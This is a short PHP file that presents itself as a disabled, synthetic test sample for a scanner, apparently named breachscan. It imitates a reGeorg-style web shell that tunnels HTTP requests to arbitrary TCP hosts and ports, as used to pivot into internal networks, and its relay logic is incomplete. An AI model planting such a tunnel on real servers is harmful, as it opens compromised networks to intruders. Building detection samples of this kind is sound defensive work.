<?php
// synthetic test sample for breachscan: HTTP-to-TCP tunnel (reGeorg-like command set):
// the request header picks CONNECT/FORWARD/DISCONNECT, the body is relayed. Disabled.
return;
set_time_limit(0);
ignore_user_abort(true);
$cmd = $_SERVER['HTTP_X_CMD'];
if ($cmd == 'CONNECT') {
    $sock = fsockopen($_SERVER['HTTP_X_TARGET'], (int)$_SERVER['HTTP_X_PORT']);
    stream_set_blocking($sock, false);
} elseif ($cmd == 'FORWARD') {
    fwrite($sock, file_get_contents('php://input'));
} elseif ($cmd == 'DISCONNECT') {
    fclose($sock);
}
